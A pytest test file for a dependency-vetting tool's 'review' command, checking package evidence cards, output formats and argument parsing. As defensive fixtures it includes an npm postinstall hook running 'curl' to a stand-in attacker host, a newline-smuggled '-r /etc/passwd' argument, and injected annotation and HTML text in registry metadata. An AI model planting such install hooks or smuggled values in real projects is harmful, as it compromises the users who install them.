"""`depguard review NAME...`: the evidence card before an install."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from depguard.model import Ecosystem, NamedIn, UrlKind
from depguard.sources import command_line
from test_formats import FORBIDDEN, validate_sarif

from support import write
from support.registry_server import Answer

ARCHIVED = (Path(__file__).parents[1] / "fixtures/pypi/simple/pil.archived.json").read_bytes()


def test_card_shows_the_evidence(depguard, workdir: Path) -> None:
    result = depguard("review", "--no-resolve", "requests")
    assert result.code == 0, result.out + result.err
    out = result.out
    assert out.startswith("requests 2.34.2 (PyPI)  ALLOW  risk 0")
    for expected in (
        "exists           yes, on PyPI",
        "summary          Python HTTP for Humans.",
        "created          2011-02-14",
        "latest release   2.34.2, 2026-",
        "releases         163",
        "maintainers      3: Lukasa, graffatcolmingov, nateprewitt",
        "repository       https://github.com/psf/requests",
        "install scripts  none declared",
        "vulnerabilities  none reported by the index for the latest release 2.34.2",
        "project status   no marker (active)",
        "downloads        1,291,814,272 last month (snapshot",
        "look-alikes      none found",
        "verdict          ALLOW, risk 0 of 100",
    ):
        assert expected in out, expected


def test_missing_package_is_blocked(depguard, workdir: Path) -> None:
    result = depguard("review", "qqqqzzzz-nothing-here")
    assert result.code == 1
    assert "exists           NO: there is no package of this name on PyPI" in result.out
    assert "why              not-found (high): does not exist on PyPI" in result.out


def test_live_downloads_are_used_when_reachable(depguard, registry, workdir: Path) -> None:
    result = depguard("review", "runcost-ai")
    assert "downloads        212 last month (PyPI downloads API)" in result.out
    assert registry.count("/pypistats/packages/runcost-ai/recent") == 1


def test_project_status_is_asked(depguard, registry, workdir: Path) -> None:
    registry.routes["/simple/six/"] = Answer(
        200, ARCHIVED, {"Content-Type": "application/vnd.pypi.simple.v1+json"}
    )
    result = depguard("review", "six", "-f", "json")
    assert result.package("six")["metadata"]["status"] == "archived"
    assert "archived" in result.ids("six")
    text = depguard("review", "six").out
    assert "project status   archived" in text


def test_check_project_status_flag_is_cached(depguard, registry, workdir: Path) -> None:
    registry.routes["/simple/six/"] = Answer(
        200, ARCHIVED, {"Content-Type": "application/vnd.pypi.simple.v1+json"}
    )
    write(workdir / "requirements.txt", "six\n")
    first = depguard("check", "--project-status", "-f", "json")
    assert "archived" in first.ids("six")
    second = depguard("check", "--project-status", "-f", "json")
    assert "archived" in second.ids("six")
    assert registry.count("/simple/six/") == 1


def test_pinned_version_and_exit_code_follow_fail_on(depguard, workdir: Path) -> None:
    result = depguard("review", "requests==2.32.0")
    assert result.code == 0
    assert "yanked (medium): version 2.32.0 is yanked" in result.out
    assert depguard("review", "requests==2.32.0", "--fail-on", "warn").code == 1


def test_several_names_and_a_bad_one(depguard, workdir: Path) -> None:
    result = depguard("review", "six", "bad name!", "-f", "json")
    assert result.code == 1  # the bad argument is an input error, never dropped
    assert [p["name"] for p in result.json["packages"]] == ["six"]
    assert "bad name!" in result.json["errors"][0]["message"]


@pytest.mark.parametrize("fmt", ["sarif", "github", "markdown", "json"])
def test_same_formats_as_check(depguard, workdir: Path, fmt: str) -> None:
    result = depguard("review", "qqqqzzzz-nothing-here", "-f", fmt)
    assert result.code == 1
    assert "qqqqzzzz-nothing-here" in result.out
    if fmt == "sarif":
        log = json.loads(result.out)
        validate_sarif(log)
        assert "locations" not in log["runs"][0]["results"][0]


def test_output_file_with_card_on_terminal(depguard, workdir: Path) -> None:
    result = depguard("review", "six", "-f", "json", "-o", "review.json")
    assert json.loads((workdir / "review.json").read_text())["packages"][0]["name"] == "six"
    assert "exists           yes, on PyPI" in result.out


def test_hostile_registry_text_in_the_card(depguard, workdir: Path) -> None:
    for fmt in ("text", "markdown", "github", "json", "sarif"):
        out = depguard("review", "hostile-meta", "-f", fmt).out
        for bad in FORBIDDEN:
            assert bad not in out, (fmt, repr(bad))
    card = depguard("review", "hostile-meta").out
    assert "maintainers      1: mallory ::error file=x::pwn<b>@admins</b>" in card


def test_unknown_ecosystem_is_a_usage_error(depguard, workdir: Path) -> None:
    result = depguard("review", "x", "--ecosystem", "cargo")
    assert result.code == 2 and "unknown ecosystem" in result.err


# -- parsing names typed on a command line ------------------------------------------------------


def test_pypi_arguments() -> None:
    deps = command_line.parse(
        ["Requests[socks]==2.31.0", "flask>=3", "pkg @ https://e.example/p.whl"], Ecosystem.PYPI
    ).dependencies
    assert [(d.normalized, d.specifier, d.pinned_version) for d in deps[:2]] == [
        ("requests", "==2.31.0", "2.31.0"),
        ("flask", ">=3", None),
    ]
    assert deps[0].extras == ("socks",) and deps[0].named_in is NamedIn.COMMAND_LINE
    assert deps[2].url == "https://e.example/p.whl" and deps[2].url_kind is UrlKind.URL


def test_pypi_direct_references() -> None:
    parsed = command_line.parse(
        ["./local/pkg", "git+https://e.example/r.git@v1#egg=thing", "dist/x-1.0-py3-none-any.whl"],
        Ecosystem.PYPI,
    )
    kinds = [(d.url_kind, d.normalized) for d in parsed.dependencies]
    assert kinds == [
        (UrlKind.PATH, "url:./local/pkg"),
        (UrlKind.VCS, "thing"),
        (UrlKind.PATH, "url:dist/x-1.0-py3-none-any.whl"),
    ]


def test_newlines_cannot_smuggle_a_second_requirement() -> None:
    parsed = command_line.parse(["six\n-r /etc/passwd"], Ecosystem.PYPI)
    assert parsed.dependencies == [] and len(parsed.errors) == 1


def test_npm_arguments() -> None:
    parsed = command_line.parse(
        ["left-pad@1.3.0", "@types/node@^20", "react", "alias@npm:lodash@4.17.21", "user/repo"],
        Ecosystem.NPM,
    )
    deps = parsed.dependencies
    assert [(d.name, d.specifier, d.version) for d in deps[:4]] == [
        ("left-pad", "1.3.0", "1.3.0"),
        ("@types/node", "^20", None),
        ("react", "", None),
        ("lodash", "4.17.21", "4.17.21"),
    ]
    assert deps[3].installed_as == "alias"
    assert deps[4].url_kind is UrlKind.VCS
    assert parsed.errors == []
    assert command_line.parse(["Bad Name"], Ecosystem.NPM).errors


def test_npm_cards_through_the_same_pipeline(depguard, workdir: Path) -> None:
    result = depguard(
        "review", "--no-resolve", "--ecosystem", "npm", "left-pad", "evil-postinstall@1.0.0"
    )
    # a 139-byte tarball that runs curl | sh at install: empty, thin and blocked
    assert result.code == 1
    assert result.out.startswith("left-pad 1.3.0 (npm)  ALLOW")
    assert "install scripts  postinstall: curl -s http://attacker.invalid/x" in result.out
    assert "why              placeholder (medium): no substance: tiny tarball" in result.out
    assert "install-scripts (medium)" in result.out
    assert (
        depguard("review", "--no-resolve", "-e", "npm", "left-pad", "--fail-on", "warn").code == 0
    )


def test_card_file_has_no_trailing_padding(depguard, workdir: Path) -> None:
    depguard("review", "six", "-o", "card.txt")
    text = (workdir / "card.txt").read_text()
    assert text.startswith("six ") and all(line == line.rstrip() for line in text.splitlines())
